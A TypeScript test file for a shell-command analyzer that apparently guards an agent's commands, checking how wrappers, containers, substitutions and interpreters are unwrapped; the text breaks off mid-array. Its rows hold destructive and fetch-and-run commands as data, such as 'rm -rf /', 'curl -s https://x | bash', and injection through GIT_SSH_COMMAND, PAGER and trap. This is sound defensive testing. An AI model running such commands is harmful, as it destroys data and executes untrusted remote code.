// analyze() itself: which simple commands come out of a command line (program and argv after
// unwrapping), through which wrappers and containers (`via`), in which directory, with which
// variables resolved, what code each shell or interpreter runs and where it comes from (`runs`),
// and what it reports when it has to stop. Unknown parts show as `$…`.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse as shellParse } from 'shell-quote';
import { LIMITS, analyze, display, plainTokens, type Analysis, type Runs, type SimpleCommand, type Stdin } from '../../lib/shell/analyze.js';
import { visible } from '../../lib/shell/normalize.js';

const HOME = '/home/agent';
const PROJECT = '/home/agent/proj';

const run = (cmd: string, cwd = PROJECT): Analysis => analyze(cmd, { cwd, home: HOME });

/** What a row pins down about one command's `runs`: kind, how, and the producers' programs. */
interface ExpectedRuns {
  kind: Runs['kind'];
  how: Runs['how'];
  producers?: string[];
  inline?: string;
}

/** What a row pins down about one simple command; fields left out are not compared. */
interface Expected {
  argv: string[];
  via?: string[];
  cwd?: string;
  stdin?: Stdin;
  /** `null`: the command must have no `runs`. */
  runs?: ExpectedRuns | null;
  /** SimpleCommand.assignments, values shown with `$…`. */
  assignments?: Record<string, string>;
  clearedEnv?: boolean;
  /** Each disguised word as `written → read` (hidden characters shown as \u{…}). */
  disguised?: string[];
}

interface Row {
  cmd: string;
  /** Static words telling apart rows or saying why (shown in the test name). */
  note?: string;
  /** The simple commands, in order; not compared when left out. */
  commands?: Expected[];
  /** Bounds reported; none unless given. */
  bounds?: string[];
}

/** Scripts on disk for the rows that read them; `{T}` in a row stands for this directory. */
const T = fs.mkdtempSync(path.join(os.tmpdir(), 'warden-analyze-'));
process.on('exit', () => fs.rmSync(T, { recursive: true, force: true }));
fs.writeFileSync(path.join(T, 'clean.sh'), '#!/bin/sh\ncd build\nrm -rf out\n');
fs.writeFileSync(path.join(T, 'plain'), 'rm -rf gen\n');
fs.writeFileSync(path.join(T, 'vars.sh'), 'TARGET=/srv\ncd /opt\n');
fs.writeFileSync(path.join(T, 'tool.py'), '#!/usr/bin/env python3\nimport shutil\nshutil.rmtree("/")\n');
fs.writeFileSync(path.join(T, 'compiled'), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 3]));
fs.writeFileSync(path.join(T, 'big.sh'), `# ${'x'.repeat(LIMITS.maxScript)}\n`);
fs.writeFileSync(path.join(T, 'self.sh'), '. ./self.sh\n');
fs.writeFileSync(path.join(T, 'nested.sh'), 'bash ./clean.sh\n');
fs.writeFileSync(path.join(T, 'many.sh'), 'bash ./clean.sh\n'.repeat(LIMITS.maxScripts + 1));
fs.mkdirSync(path.join(T, 'dir'));
execFileSync('mkfifo', [path.join(T, 'fifo')]);

/** A stdin for comparison: unknown parts of its text shown as `$…`. */
function shown(s: Stdin | undefined): Stdin | undefined {
  if (s === undefined) return undefined;
  if (s.kind === 'file') return s;
  if (s.kind === 'pipe') return s.text === undefined ? s : { ...s, text: display(s.text) };
  return { ...s, text: display(s.text) };
}

function view(c: SimpleCommand, e: Expected): Expected {
  const v: Expected = { argv: c.argv.map((w) => display(w).split(T).join('{T}')) };
  if (e.via !== undefined) v.via = c.via.map((x) => x.split(T).join('{T}'));
  if (e.cwd !== undefined) v.cwd = display(c.cwd).split(T).join('{T}');
  if (e.stdin !== undefined) v.stdin = shown(c.stdin);
  if (e.runs !== undefined) {
    const r = c.runs;
    v.runs = r === undefined ? null : { kind: r.kind, how: r.how };
    if (r !== undefined && v.runs !== null && e.runs?.producers !== undefined) v.runs.producers = r.producers.map((p) => p.program);
    if (r !== undefined && v.runs !== null && e.runs?.inline !== undefined) v.runs.inline = r.inline?.lang ?? '';
  }
  if (e.assignments !== undefined) v.assignments = Object.fromEntries([...c.assignments].map(([k, x]) => [k, display(x)]));
  if (e.clearedEnv !== undefined) v.clearedEnv = c.clearedEnv === true;
  if (e.disguised !== undefined) v.disguised = (c.disguised ?? []).map((d) => `${visible(d.word)} → ${d.as}`);
  return v;
}

/** `inT`: run in the scripts directory T, with `{T}` in the row standing for it. */
function check(row: Row, inT = false): void {
  const a = inT ? run(row.cmd.split('{T}').join(T), T) : run(row.cmd);
  assert.deepEqual(a.bounds, row.bounds ?? []);
  if (row.commands === undefined) return;
  assert.equal(a.commands.length, row.commands.length, `commands of ${JSON.stringify(row.cmd)}: ${JSON.stringify(a.commands.map((c) => c.argv.map(display)))}`);
  row.commands.forEach((e, i) => assert.deepEqual(view(a.commands[i] as SimpleCommand, e), e, `command ${i} of ${JSON.stringify(row.cmd)}`));
}

const simple: Row[] = [
  { cmd: 'ls -la', commands: [{ argv: ['ls', '-la'], via: [], cwd: PROJECT }] },
  { cmd: 'git   status   --short', commands: [{ argv: ['git', 'status', '--short'] }] },
  { cmd: `echo "a b" 'c d' e\\ f`, commands: [{ argv: ['echo', 'a b', 'c d', 'e f'] }] },
  { cmd: "r''m -rf x", commands: [{ argv: ['rm', '-rf', 'x'] }] },
  { cmd: '"rm" x', commands: [{ argv: ['rm', 'x'] }] },
  { cmd: '\\rm x', commands: [{ argv: ['rm', 'x'] }] },
  { cmd: "echo $'a\\nb'", commands: [{ argv: ['echo', 'a\nb'] }] },
  { cmd: 'echo *.ts', commands: [{ argv: ['echo', '*.ts'] }] },
  { cmd: 'git log --format="%H %s"', commands: [{ argv: ['git', 'log', '--format=%H %s'] }] },
  { cmd: 'echo hi > out.txt 2>&1', commands: [{ argv: ['echo', 'hi'] }] },
  { cmd: '! ls', commands: [{ argv: ['ls'] }] },
  { cmd: 'a=1 b=2', commands: [] },
  { cmd: '', commands: [] },
];

const chains: Row[] = [
  { cmd: 'a; b', commands: [{ argv: ['a'] }, { argv: ['b'] }] },
  { cmd: 'a && b || c', commands: [{ argv: ['a'] }, { argv: ['b'] }, { argv: ['c'] }] },
  { cmd: 'a & b', commands: [{ argv: ['a'] }, { argv: ['b'] }] },
  { cmd: 'a | b |& c', commands: [{ argv: ['a'] }, { argv: ['b'], stdin: { kind: 'pipe', from: 'a' } }, { argv: ['c'], stdin: { kind: 'pipe', from: 'b' } }] },
  { cmd: '(a; b)', commands: [{ argv: ['a'] }, { argv: ['b'] }] },
  { cmd: '{ a; b; }', commands: [{ argv: ['a'] }, { argv: ['b'] }] },
  { cmd: 'if a; then b; else c; fi', commands: [{ argv: ['a'] }, { argv: ['b'] }, { argv: ['c'] }] },
  { cmd: 'a\nb\n\nc', commands: [{ argv: ['a'] }, { argv: ['b'] }, { argv: ['c'] }] },
  { cmd: 'a |\n  b', commands: [{ argv: ['a'] }, { argv: ['b'] }] },
  { cmd: 'a &&\n\n  b', commands: [{ argv: ['a'] }, { argv: ['b'] }] },
  { cmd: 'echo a \\\n  b', commands: [{ argv: ['echo', 'a', 'b'] }] },
  { cmd: 'if a\nthen\n  b\nfi', commands: [{ argv: ['a'] }, { argv: ['b'] }] },
  { cmd: 'for x in 1 2\ndo\n  echo $x\ndone', commands: [{ argv: ['for', 'x', 'in', '1', '2'] }, { argv: ['echo', '$…'] }] },
];

const comments: Row[] = [
  { cmd: 'ls # rm -rf /', commands: [{ argv: ['ls'] }] },
  { cmd: 'ls;# rm -rf /', commands: [{ argv: ['ls'] }] },
  { cmd: '# only a comment', commands: [] },
  { cmd: '# a comment\nls', commands: [{ argv: ['ls'] }] },
  { cmd: 'echo a#b', commands: [{ argv: ['echo', 'a#b'] }] },
  { cmd: 'echo a#; rm x', commands: [{ argv: ['echo', 'a#'] }, { argv: ['rm', 'x'] }] },
  { cmd: 'echo "# not" \'# a\' \\# comment', commands: [{ argv: ['echo', '# not', '# a', '#', 'comment'] }] },
  { cmd: 'git commit -m fix#1 && git push', commands: [{ argv: ['git', 'commit', '-m', 'fix#1'] }, { argv: ['git', 'push'] }] },
];

const via: Row[] = [
  // A wholly unknown program word may expand to nothing or to a wrapper: what follows is a command too.
  { cmd: '$X git push -f origin main', commands: [{ argv: ['$…', 'git', 'push', '-f', 'origin', 'main'] }, { argv: ['git', 'push', '-f', 'origin', 'main'], via: ['(unknown program)'] }] },
  { cmd: '"$X" rm x', commands: [{ argv: ['$…', 'rm', 'x'] }, { argv: ['rm', 'x'], via: ['(unknown program)'] }] },
  { cmd: '$X', commands: [{ argv: ['$…'] }] },
  { cmd: '$X /usr/bin/rm x', commands: [{ argv: ['$…', '/usr/bin/rm', 'x'] }, { argv: ['/usr/bin/rm', 'x'], via: ['(unknown program)'] }] },
  { cmd: '$EDITOR ~/notes.txt', note: 'a file to open, not a program', commands: [{ argv: ['$…', `${HOME}/notes.txt`] }] },
  { cmd: '$PAGER ./README.md', commands: [{ argv: ['$…', './README.md'] }] },
  { cmd: 'X=ls; $X -la', commands: [{ argv: ['ls', '-la'] }] },
  // coproc runs its command (or group).
  { cmd: 'coproc rm x', commands: [{ argv: ['rm', 'x'] }] },
  { cmd: 'coproc W { rm x; }', commands: [{ argv: ['rm', 'x'] }] },
  { cmd: 'sudo -u root rm x', commands: [{ argv: ['rm', 'x'], via: ['sudo'] }] },
  { cmd: 'sudo -Eu root rm x', commands: [{ argv: ['rm', 'x'], via: ['sudo'] }] },
  { cmd: 'env X=1 -u Y rm x', commands: [{ argv: ['rm', 'x'], via: ['env'] }] },
  { cmd: 'env - rm x', commands: [{ argv: ['rm', 'x'], via: ['env'] }] },
  { cmd: 'env -S "ls -la" x', commands: [{ argv: ['ls', '-la', 'x'], via: ['env'] }] },
  { cmd: 'timeout -k 5 10 rm x', commands: [{ argv: ['rm', 'x'], via: ['timeout'] }] },
  { cmd: 'nice -n 5 timeout 10 sudo -u x env A=1 ls', commands: [{ argv: ['ls'], via: ['nice', 'timeout', 'sudo', 'env'] }] },
  { cmd: 'command rm x', commands: [{ argv: ['rm', 'x'], via: ['command'] }] },
  { cmd: 'command -v rm', commands: [{ argv: ['command', '-v', 'rm'], via: [] }] },
  { cmd: 'sudo -l rm', commands: [{ argv: ['sudo', '-l', 'rm'], via: [] }] },
  { cmd: '/usr/bin/env rm x', commands: [{ argv: ['rm', 'x'], via: ['env'] }] },
  { cmd: 'xargs rm -f', commands: [{ argv: ['rm', '-f', '$…'], via: ['xargs'] }] },
  { cmd: 'xargs -I % mv % /tmp', commands: [{ argv: ['mv', '$…', '/tmp'], via: ['xargs'] }] },
  { cmd: 'xargs', commands: [{ argv: ['xargs'], via: [] }] },
  { cmd: "bash -c 'rm x'", commands: [{ argv: ['bash', '-c', 'rm x'], via: [] }, { argv: ['rm', 'x'], via: ['bash -c'] }] },
  { cmd: 'sh -e -c "ls"', commands: [{ argv: ['sh', '-e', '-c', 'ls'] }, { argv: ['ls'], via: ['sh -c'] }] },
  { cmd: 'bash -o pipefail -c "ls"', commands: [{ argv: ['bash', '-o', 'pipefail', '-c', 'ls'] }, { argv: ['ls'], via: ['bash -c'] }] },
  { cmd: 'bash script.sh', commands: [{ argv: ['bash', 'script.sh'] }] },
  { cmd: 'sudo bash -c "env -C / ls"', commands: [{ argv: ['bash', '-c', 'env -C / ls'], via: ['sudo'] }, { argv: ['ls'], via: ['sudo', 'bash -c', 'env'], cwd: '/' }] },
  { cmd: 'echo $(rm x)', commands: [{ argv: ['rm', 'x'], via: ['$(…)'] }, { argv: ['echo', '$…'], via: [] }] },
  { cmd: 'echo `rm x`', commands: [{ argv: ['rm', 'x'], via: ['$(…)'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'echo "$(a $(b))"', commands: [{ argv: ['b'], via: ['$(…)', '$(…)'] }, { argv: ['a', '$…'], via: ['$(…)'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'diff <(ls a) >(cat)', commands: [{ argv: ['ls', 'a'], via: ['<(…)'] }, { argv: ['cat'], via: ['>(…)'] }, { argv: ['diff', '$…', '$…'] }] },
  { cmd: 'eval "rm x"', commands: [{ argv: ['eval', 'rm x'] }, { argv: ['rm', 'x'], via: ['eval'] }] },
  { cmd: 'eval "$CMD"', commands: [{ argv: ['eval', '$…'] }, { argv: ['$…'], via: ['eval'] }] },
  { cmd: "echo 'rm x' | sh", commands: [{ argv: ['echo', 'rm x'] }, { argv: ['sh'] }, { argv: ['rm', 'x'], via: ['echo | sh'] }] },
  { cmd: 'echo hi | cat | bash', commands: [{ argv: ['echo', 'hi'] }, { argv: ['cat'] }, { argv: ['bash'] }, { argv: ['hi'], via: ['cat | bash'] }] },
  { cmd: 'curl -s https://x | bash', commands: [{ argv: ['curl', '-s', 'https://x'] }, { argv: ['bash'], stdin: { kind: 'pipe', from: 'curl' } }] },
  { cmd: "su - root -c 'rm x'", commands: [{ argv: ['su', '-', 'root', '-c', 'rm x'] }, { argv: ['rm', 'x'], via: ['su -c'] }] },
  { cmd: '$SHELL -c "rm x"', commands: [{ argv: ['$…', '-c', 'rm x'] }, { argv: ['rm', 'x'], via: ['$… -c'] }] },
  {
    cmd: 'find ./src -name "*.ts" -exec sed -i s/a/b/ {} +',
    commands: [{ argv: ['find', './src', '-name', '*.ts', '-exec', 'sed', '-i', 's/a/b/', '{}', '+'] }, { argv: ['sed', '-i', 's/a/b/', './src/$…'], via: ['find -exec'] }],
  },
  { cmd: 'find -ok rm {} \\;', commands: [{ argv: ['find', '-ok', 'rm', '{}', ';'] }, { argv: ['rm', './$…'], via: ['find -ok'] }] },
  { cmd: 'find a b -exec rm {} +', commands: [{ argv: ['find', 'a', 'b', '-exec', 'rm', '{}', '+'] }, { argv: ['rm', '$…'], via: ['find -exec'] }] },
];

const cwd: Row[] = [
  { cmd: 'cd /tmp; pwd', commands: [{ argv: ['cd', '/tmp'], cwd: PROJECT }, { argv: ['pwd'], cwd: '/tmp' }] },
  { cmd: 'cd ..; pwd', commands: [{ argv: ['cd', '..'] }, { argv: ['pwd'], cwd: HOME }] },
  { cmd: 'cd; pwd', commands: [{ argv: ['cd'] }, { argv: ['pwd'], cwd: HOME }] },
  { cmd: 'cd ~/proj/src; cd ../..; pwd', commands: [{ argv: ['cd', `${PROJECT}/src`] }, { argv: ['cd', '../..'], cwd: `${PROJECT}/src` }, { argv: ['pwd'], cwd: HOME }] },
  { cmd: 'cd -; pwd', commands: [{ argv: ['cd', '-'] }, { argv: ['pwd'], cwd: '$…' }] },
  { cmd: 'cd "$X"; pwd', commands: [{ argv: ['cd', '$…'] }, { argv: ['pwd'], cwd: '$…' }] },
  { cmd: 'pushd /tmp; pwd', commands: [{ argv: ['pushd', '/tmp'] }, { argv: ['pwd'], cwd: '/tmp' }] },
  { cmd: 'cd /tmp && (cd a; ls); ls', commands: [{ argv: ['cd', '/tmp'] }, { argv: ['cd', 'a'], cwd: '/tmp' }, { argv: ['ls'], cwd: '/tmp/a' }, { argv: ['ls'], cwd: '/tmp' }] },
  { cmd: 'bash -c "cd /; pwd"; pwd', commands: [{ argv: ['bash', '-c', 'cd /; pwd'] }, { argv: ['cd', '/'] }, { argv: ['pwd'], cwd: '/' }, { argv: ['pwd'], cwd: PROJECT }] },
  { cmd: 'echo "$(cd /; pwd)"; pwd', commands: [{ argv: ['cd', '/'] }, { argv: ['pwd'], cwd: '/' }, { argv: ['echo', '$…'] }, { argv: ['pwd'], cwd: PROJECT }] },
  { cmd: 'env -C / ls; pwd', commands: [{ argv: ['ls'], cwd: '/' }, { argv: ['pwd'], cwd: PROJECT }] },
  { cmd: 'sudo --chdir=/var ls', commands: [{ argv: ['ls'], cwd: '/var' }] },
];

const variables: Row[] = [
  { cmd: 'X=1; echo $X "$X" ${X}', commands: [{ argv: ['echo', '1', '1', '1'] }] },
  { cmd: 'X=a; X=${X}b; echo $X', commands: [{ argv: ['echo', 'ab'] }] },
  { cmd: 'export A=/x B=/y; echo $A $B', commands: [{ argv: ['export', 'A=/x', 'B=/y'] }, { argv: ['echo', '/x', '/y'] }] },
  { cmd: 'X=1 env; echo $X', commands: [{ argv: ['env'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'echo $HOME ${HOME} "$HOME/x" ~ ~/x', commands: [{ argv: ['echo', HOME, HOME, `${HOME}/x`, HOME, `${HOME}/x`] }] },
  { cmd: 'cd /tmp; echo $PWD ~+', commands: [{ argv: ['cd', '/tmp'] }, { argv: ['echo', '/tmp', '/tmp'] }] },
  { cmd: 'echo ~root ~root/x ~-', commands: [{ argv: ['echo', '$…', '$…/x', '$…'] }] },
  { cmd: "echo '$HOME' '~'", commands: [{ argv: ['echo', '$HOME', HOME] }] },
  { cmd: 'HOME=/tmp/h; echo ~ $HOME ~/x; cd; pwd', commands: [{ argv: ['echo', '/tmp/h', '/tmp/h', '/tmp/h/x'] }, { argv: ['cd'] }, { argv: ['pwd'], cwd: '/tmp/h' }] },
  { cmd: 'PWD=/x; echo $PWD; cd /tmp; echo $PWD', commands: [{ argv: ['echo', '/x'] }, { argv: ['cd', '/tmp'] }, { argv: ['echo', '/tmp'] }] },
  { cmd: 'echo \u0002HOME\u0002 \u00010\u0001', commands: [{ argv: ['echo', '\uFFFDHOME\uFFFD', '\uFFFD0\uFFFD'] }] },
  { cmd: 'echo ${X:-d} $1 $@ $# $?', commands: [{ argv: ['echo', '$…', '$…', '$…', '$…', '$…'] }] },
  { cmd: 'echo a$(b)c', commands: [{ argv: ['b'] }, { argv: ['echo', 'a$…c'] }] },
  { cmd: 'X=$(pwd); echo $X/y', commands: [{ argv: ['pwd'] }, { argv: ['echo', '$…/y'] }] },
  { cmd: 'echo $"/"', commands: [{ argv: ['echo', '/'] }] },
  { cmd: "bash -c 'echo $X' ; X=1", commands: [{ argv: ['bash', '-c', 'echo $X'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'echo {a,b}{1,2} x{1..3} \\{c,d\\} "{e,f}"', commands: [{ argv: ['echo', 'a1', 'a2', 'b1', 'b2', 'x1', 'x2', 'x3', '{c,d}', '{e,f}'] }] },
  { cmd: '{rm,-rf,x}', commands: [{ argv: ['rm', '-rf', 'x'] }] },
  { cmd: 'echo {1..100000}', commands: [{ argv: ['echo', '$…'] }] },
];

const stdin: Row[] = [
  { cmd: 'cat <<EOF > notes.md\nrm x\n$HOME\nEOF', commands: [{ argv: ['cat'], stdin: { kind: 'heredoc', text: 'rm x\n$HOME', quoted: false } }] },
  { cmd: "cat <<'EOF'\n$(rm x)\nEOF", commands: [{ argv: ['cat'], stdin: { kind: 'heredoc', text: '$(rm x)', quoted: true } }] },
  { cmd: 'cat <<EOF\na $(rm x) `ls`\nEOF', commands: [{ argv: ['rm', 'x'], via: ['$(…)'] }, { argv: ['ls'] }, { argv: ['cat'], stdin: { kind: 'heredoc', text: 'a $… $…', quoted: false } }] },
  { cmd: 'cat <<-EOF\n\tindented\n\tEOF\nls', commands: [{ argv: ['cat'], stdin: { kind: 'heredoc', text: '\tindented', quoted: false } }, { argv: ['ls'] }] },
  { cmd: 'cat <<A <<B\na\nA\nb\nB', commands: [{ argv: ['cat'], stdin: { kind: 'heredoc', text: 'b', quoted: false } }] },
  { cmd: 'bash <<EOF\nrm x\nEOF', commands: [{ argv: ['bash'] }, { argv: ['rm', 'x'], via: ['bash <<'] }] },
  { cmd: "bash <<'EOF'\necho $HOME\nEOF", commands: [{ argv: ['bash'] }, { argv: ['echo', HOME], via: ['bash <<'] }] },
  { cmd: "sh <<< 'rm x'", commands: [{ argv: ['sh'], stdin: { kind: 'herestring', text: 'rm x' } }, { argv: ['rm', 'x'], via: ['sh <<'] }] },
  { cmd: 'cat <<< x\nrm y', commands: [{ argv: ['cat'], stdin: { kind: 'herestring', text: 'x' } }, { argv: ['rm', 'y'] }] },
  { cmd: 'cat < in.txt', commands: [{ argv: ['cat'], stdin: { kind: 'file', path: 'in.txt' } }] },
  { cmd: 'cat <<EOF | sh\nls\nEOF', commands: [{ argv: ['cat'] }, { argv: ['sh'], stdin: { kind: 'pipe', from: 'cat', text: 'ls' } }, { argv: ['ls'], via: ['cat | sh'] }] },
  { cmd: "printf 'rm %s\\n' x | sh", commands: [{ argv: ['printf', 'rm %s\\n', 'x'] }, { argv: ['sh'] }, { argv: ['rm', 'x'], via: ['printf | sh'] }] },
];

// Programs that run a command elsewhere or otherwise: on a remote host, in a container, per input,
// repeatedly, as another user, later (trap), or through a variable a program runs.
const runners: Row[] = [
  { cmd: "ssh -p 22 host 'cd /srv && rm -rf build'", commands: [{ argv: ['ssh', '-p', '22', 'host', 'cd /srv && rm -rf build'] }, { argv: ['cd', '/srv'], via: ['ssh'], cwd: '$…' }, { argv: ['rm', '-rf', 'build'], via: ['ssh'], cwd: '/srv' }] },
  { cmd: 'ssh host -l root rm -rf /var', commands: [{ argv: ['ssh', 'host', '-l', 'root', 'rm', '-rf', '/var'] }, { argv: ['rm', '-rf', '/var'], via: ['ssh'], cwd: '$…' }] },
  { cmd: 'ssh host', commands: [{ argv: ['ssh', 'host'] }] },
  { cmd: "ssh host 'echo $HOME'", commands: [{ argv: ['ssh', 'host', 'echo $HOME'] }, { argv: ['echo', HOME], via: ['ssh'] }] },
  { cmd: "docker exec -it -u root web sh -c 'rm -rf /data'", commands: [{ argv: ['docker', 'exec', '-it', '-u', 'root', 'web', 'sh', '-c', 'rm -rf /data'] }, { argv: ['sh', '-c', 'rm -rf /data'], via: ['docker exec'], cwd: '$…' }, { argv: ['rm', '-rf', '/data'], via: ['docker exec', 'sh -c'] }] },
  { cmd: 'docker -H tcp://x:2375 container exec -w /app web rm -rf dist', commands: [{ argv: ['docker', '-H', 'tcp://x:2375', 'container', 'exec', '-w', '/app', 'web', 'rm', '-rf', 'dist'] }, { argv: ['rm', '-rf', 'dist'], via: ['docker exec'], cwd: '/app' }] },
  { cmd: 'docker run --rm -v "$PWD":/w -w /w alpine rm -rf /w', commands: [{ argv: ['docker', 'run', '--rm', '-v', `${PROJECT}:/w`, '-w', '/w', 'alpine', 'rm', '-rf', '/w'] }, { argv: ['rm', '-rf', '/w'], via: ['docker run'], cwd: '/w' }] },
  { cmd: "docker run --entrypoint sh img -c 'rm -rf /x'", commands: [{ argv: ['docker', 'run', '--entrypoint', 'sh', 'img', '-c', 'rm -rf /x'] }, { argv: ['sh', '-c', 'rm -rf /x'], via: ['docker run'] }, { argv: ['rm', '-rf', '/x'] }] },
  { cmd: 'docker compose exec -T db psql -c x', commands: [{ argv: ['docker', 'compose', 'exec', '-T', 'db', 'psql', '-c', 'x'] }, { argv: ['psql', '-c', 'x'], via: ['docker compose exec'] }] },
  { cmd: 'podman exec ctr ls', commands: [{ argv: ['podman', 'exec', 'ctr', 'ls'] }, { argv: ['ls'], via: ['podman exec'] }] },
  { cmd: 'docker ps', commands: [{ argv: ['docker', 'ps'] }] },
  { cmd: 'docker run -d nginx', commands: [{ argv: ['docker', 'run', '-d', 'nginx'] }] },
  { cmd: 'kubectl -n prod exec -it pod -c app -- rm -rf /var/lib', commands: [{ argv: ['kubectl', '-n', 'prod', 'exec', '-it', 'pod', '-c', 'app', '--', 'rm', '-rf', '/var/lib'] }, { argv: ['rm', '-rf', '/var/lib'], via: ['kubectl exec'], cwd: '$…' }] },
  { cmd: 'kubectl exec pod ls /', commands: [{ argv: ['kubectl', 'exec', 'pod', 'ls', '/'] }, { argv: ['ls', '/'], via: ['kubectl exec'] }] },
  { cmd: 'kubectl get pods', commands: [{ argv: ['kubectl', 'get', 'pods'] }] },
  { cmd: 'parallel rm -rf {} ::: a /', commands: [{ argv: ['parallel', 'rm', '-rf', '{}', ':::', 'a', '/'] }, { argv: ['rm', '-rf', 'a'], via: ['parallel'] }, { argv: ['rm', '-rf', '/'], via: ['parallel'] }] },
  { cmd: 'parallel -j4 gzip ::: a.log b.log', commands: [{ argv: ['parallel', '-j4', 'gzip', ':::', 'a.log', 'b.log'] }, { argv: ['gzip', 'a.log'] }, { argv: ['gzip', 'b.log'] }] },
  { cmd: 'ls | parallel rm {}', commands: [{ argv: ['ls'] }, { argv: ['parallel', 'rm', '{}'] }, { argv: ['rm', '$…'], via: ['parallel'] }] },
  { cmd: "parallel ::: 'rm -rf /x' ls", commands: [{ argv: ['parallel', ':::', 'rm -rf /x', 'ls'] }, { argv: ['rm', '-rf', '/x'], via: ['parallel'] }, { argv: ['ls'], via: ['parallel'] }] },
  { cmd: "watch -n 1 'rm -rf /tmp/x'", commands: [{ argv: ['watch', '-n', '1', 'rm -rf /tmp/x'] }, { argv: ['rm', '-rf', '/tmp/x'], via: ['watch'] }] },
  { cmd: 'watch -x rm -rf a', commands: [{ argv: ['watch', '-x', 'rm', '-rf', 'a'] }, { argv: ['rm', '-rf', 'a'], via: ['watch'] }] },
  { cmd: 'runuser -u bob -- rm -rf /home/bob', commands: [{ argv: ['runuser', '-u', 'bob', '--', 'rm', '-rf', '/home/bob'] }, { argv: ['rm', '-rf', '/home/bob'], via: ['runuser -u'] }] },
  { cmd: "runuser -l bob -c 'rm x'", commands: [{ argv: ['runuser', '-l', 'bob', '-c', 'rm x'] }, { argv: ['rm', 'x'], via: ['runuser -c'] }] },
  { cmd: 'busybox rm -rf x', commands: [{ argv: ['rm', '-rf', 'x'], via: ['busybox'] }] },
  { cmd: "busybox sh -c 'ls'", commands: [{ argv: ['sh', '-c', 'ls'], via: ['busybox'] }, { argv: ['ls'], via: ['busybox', 'sh -c'] }] },
  { cmd: "trap 'rm -rf /tmp/x' EXIT", note: 'runs at exit', commands: [{ argv: ['trap', 'rm -rf /tmp/x', 'EXIT'] }, { argv: ['rm', '-rf', '/tmp/x'], via: ['trap (at exit)'] }] },
  { cmd: "trap 'rm -rf /tmp/x' INT", note: 'may run at any point: now too', commands: [{ argv: ['trap', 'rm -rf /tmp/x', 'INT'] }, { argv: ['rm', '-rf', '/tmp/x'], via: ['trap'] }, { argv: ['rm', '-rf', '/tmp/x'], via: ['trap (at exit)'] }] },
  { cmd: "trap 'rm -rf \"$t\"' EXIT; t=$(mktemp -d)", note: 'set after the trap: its final value', commands: [{ argv: ['trap', 'rm -rf "$t"', 'EXIT'] }, { argv: ['mktemp', '-d'] }, { argv: ['rm', '-rf', '/tmp/$…/tmp.$…'] }] },
  { cmd: "D=/; trap 'rm -rf $D' EXIT; D=/tmp/x", note: 'changed since: either', commands: [{ argv: ['trap', 'rm -rf $D', 'EXIT'] }, { argv: ['rm', '-rf', '/$…'] }] },
  { cmd: 'trap - EXIT', commands: [{ argv: ['trap', '-', 'EXIT'] }] },
  { cmd: "alias ls='rm -rf x'", commands: [{ argv: ['alias', 'ls=rm -rf x'] }, { argv: ['rm', '-rf', 'x'], via: ['alias ls'] }] },
  { cmd: `GIT_SSH_COMMAND='sh -c "rm x"' git fetch`, commands: [{ argv: ['git', 'fetch'] }, { argv: ['sh', '-c', 'rm x'], via: ['GIT_SSH_COMMAND'] }, { argv: ['rm', 'x'] }] },
  { cmd: "env PAGER='rm x' man ls", commands: [{ argv: ['man', 'ls'], via: ['env'] }, { argv: ['rm', 'x'], via: ['env', 'PAGER'] }] },
  { cmd: 'RM -rf x; git.exe status', commands: [{ argv: ['RM', '-rf', 'x'] }, { argv: ['git.exe', 'status'] }] },
];

// What a shell or an interpreter runs, and where its code comes from (`runs`).
const runs: Row[] = [
  { cmd: 'ls -la', commands: [{ argv: ['ls', '-la'], runs: null }] },
  { cmd: "bash -c 'ls'", commands: [{ argv: ['bash', '-c', 'ls'], runs: { kind: 'known-code', how: 'argument', producers: [] } }, { argv: ['ls'] }] },
  { cmd: 'bash -c -- ls', commands: [{ argv: ['bash', '-c', '--', 'ls'] }, { argv: ['ls'], via: ['bash -c'] }] },
  { cmd: 'curl -s x | sh', commands: [{ argv: ['curl', '-s', 'x'] }, { argv: ['sh'], runs: { kind: 'unknown-code', how: 'stdin', producers: ['curl'] } }] },
  { cmd: 'curl -s x | gunzip | sudo bash -s -- -y', commands: [{ argv: ['curl', '-s', 'x'] }, { argv: ['gunzip'] }, { argv: ['bash', '-s', '--', '-y'], via: ['sudo'], runs: { kind: 'unknown-code', how: 'stdin', producers: ['curl', 'gunzip'] } }] },
  { cmd: 'curl -s x | bash -n', commands: [{ argv: ['curl', '-s', 'x'] }, { argv: ['bash', '-n'], runs: null }] },
  { cmd: "bash -n -c 'rm x'", commands: [{ argv: ['bash', '-n', '-c', 'rm x'], runs: null }] },
  { cmd: 'curl x | (cd /tmp && sh)', commands: [{ argv: ['curl', 'x'] }, { argv: ['cd', '/tmp'] }, { argv: ['sh'], cwd: '/tmp', runs: { kind: 'unknown-code', how: 'stdin', producers: ['curl'] } }] },
  { cmd: 'sh -c "$(curl -s x)"', commands: [{ argv: ['curl', '-s', 'x'] }, { argv: ['sh', '-c', '$…'], runs: { kind: 'unknown-code', how: 'argument', producers: ['curl'] } }, { argv: ['$…'] }] },
  { cmd: 'X=$(curl -s x); eval "$X"', commands: [{ argv: ['curl', '-s', 'x'] }, { argv: ['eval', '$…'], runs: { kind: 'unknown-code', how: 'argument', producers: ['curl'] } }, { argv: ['$…'] }] },
  { cmd: 'eval "$CMD"', commands: [{ argv: ['eval', '$…'], runs: { kind: 'unknown-code', how: 'argument', producers: [] } }, { argv: ['$…'], via: ['eval'] }] },
  { cmd: 'eval "echo $(date)"', commands: [{ argv: ['date'] }, { argv: ['eval', 'echo $…'], runs: { kind: 'known-code', how: 'argument', producers: ['date'] } }, { argv: ['echo', '$…'] }] },
  { cmd: 'bash <(curl -s x)', commands: [{ argv: ['curl', '-s', 'x'], via: ['<(…)'] }, { argv: ['bash', '$…'], runs: { kind: 'unknown-code', how: 'script', producers: ['curl'] } }] },
  { cmd: 'source <(kubectl completion bash)', commands: [{ argv: ['kubectl', 'completion', 'bash'] }, { argv: ['source', '$…'], runs: { kind: 'unknown-code', how: 'script', producers: ['kubectl'] } }] },
  { cmd: 'sh < <(curl x)', commands: [{ argv: ['curl', 'x'] }, { argv: ['sh'], runs: { kind: 'unknown-code', how: 'stdin', producers: ['curl'] } }] },
